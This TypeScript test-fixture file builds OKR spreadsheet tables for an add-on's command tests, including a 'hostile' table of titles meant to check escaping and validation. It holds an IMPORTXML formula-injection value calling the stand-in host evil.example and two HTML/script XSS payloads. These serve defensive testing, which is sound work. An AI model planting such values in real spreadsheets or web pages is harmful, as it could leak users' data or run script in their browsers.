/** OKR sheets for the command tests: the ABC sample, a hostile sheet and a large generated one. */
import { generateAbcDemo } from '@aligned/core';
import type { AppsScriptDouble } from './index';
import type { SheetDouble } from './spreadsheet';

/** Puts a table on a new sheet of the double's spreadsheet, exactly as given (no user-entered parsing). */
export function putTable(gas: AppsScriptDouble, name: string, table: unknown[][]): SheetDouble {
  const ss = gas.spreadsheet;
  const sheet = ss.getSheetByName(name) ?? ss._addSheet(name);
  const columns = Math.max(...table.map((r) => r.length));
  if (table.length > sheet._maxRows) sheet._maxRows = table.length;
  if (columns > sheet._maxColumns) sheet._maxColumns = columns;
  table.forEach((row, i) => row.forEach((v, j) => sheet._putStored(i + 1, j + 1, v, null)));
  return sheet;
}

export function sampleTable(): unknown[][] {
  return generateAbcDemo({ seed: 42 }).rows;
}

export const HOSTILE_TITLES = {
  formula: '=IMPORTXML("https://evil.example/x","//a")',
  plus: '+1',
  html: '<img src=x onerror=alert(1)>',
  minus: '-5 cost cut',
  at: '@everyone look',
  quote: "'quoted",
  script: '</script><script>alert(2)</script>',
} as const;

/**
 * Columns in an unusual order under alias names, formula-looking and HTML titles, and one of
 * each problem the Validate sidebar must point at.
 */
export function hostileTable(): unknown[][] {
  const t = HOSTILE_TITLES;
  return [
    ['Name', 'Key', 'Aligns to', 'Type', 'Direction', 'Start value', 'Goal value', 'Actual', 'Weighting', 'Start date', 'Due date', 'Owner', 'Notes'],
    [t.formula, 'O1', '', 'objective', '', '', '', '', '', '2026-01-01', '2026-12-31', '=HYPERLINK("x")', 'keep me'],
    [t.plus, 'K1', 'O1', 'key result', 'increase', 0, 100, 40, 1, '', '', 'Ann', ''],
    [t.html, 'K2', 'O1', 'key result', 'increase', 0, 10, 'abc', 1, '', '', 'Bob', ''],
    ['Flat target', 'K3', 'O1', 'key result', 'increase', 50, 50, 50, 1, '', '', 'Cy', ''],
    ['Backwards dates', 'K4', 'O1', 'key result', 'increase', 0, 10, 5, 1, '2026-03-01', '2026-01-01', 'Di', ''],
    ['Negative weight', 'K5', 'O1', 'key result', 'increase', 0, 10, 5, -2, '', '', 'Ed', ''],
    ['Duplicate of K1', 'K1', 'O1', 'key result', 'increase', 0, 10, 5, 1, '', '', 'Fay', ''],
    [t.minus, 'X1', 'NOPE', 'key result', 'decrease', 100, 50, 80, 1, '2026-01-01', '2026-12-31', 'Gus', ''],
    [t.at, 'C1', 'C2', 'objective', '', '', '', '', '', '2026-01-01', '2026-12-31', 'Hal', ''],
    [t.quote, 'C2', 'C1', 'objective', '', '', '', '', '', '2026-01-01', '2026-12-31', 'Ivy', ''],
    [t.script, 'K6', 'O1', 'key result', 'increase', 0, 10, 7, 1, '', '', 'Jo', ''],
  ];
}

/**
 * n rows: a mission, then objectives eight to a parent (so the tree stays a few levels deep)
 * and four key results per objective, in the schema header's order. Parents come before
 * children, IDs are unique.
 */
export function largeTable(n: number): unknown[][] {
  const header = ['ID', 'Parent', 'Level', 'Type', 'Title', 'Owner', 'Kind', 'Unit', 'Baseline', 'Target', 'Current', 'Low', 'High', 'Weight', 'Start', 'End', 'Confidence', 'Metric'];
  const rows: unknown[][] = [header];
  rows.push(['M', '', 'mission', 'objective', 'Mission', 'CEO', '', '', '', '', '', '', '', 1, '2026-01-01', '2026-12-31', '', '']);
  const objectives: string[] = ['M'];
  for (let i = 0; rows.length - 1 < n; i++) {
    if (i % 5 === 0) {
      const id = `O${i}`;
      const parent = objectives[Math.floor((objectives.length - 1) / 8)];
      rows.push([id, parent, 'quarterly', 'objective', `Objective ${i}`, `Team ${i % 17}`, '', '', '', '', '', '', '', 1, '', '', '', '']);
      objectives.push(id);
    } else {
      const parent = objectives[objectives.length - 1];
      rows.push([`K${i}`, parent, 'quarterly', 'key_result', `Key result ${i}`, `Owner ${i % 23}`, 'increase', '$', 0, 1000 + i, (i * 37) % 1200, '', '', 1 + (i % 3), '', '', '', '']);
    }
  }
  return rows;
}
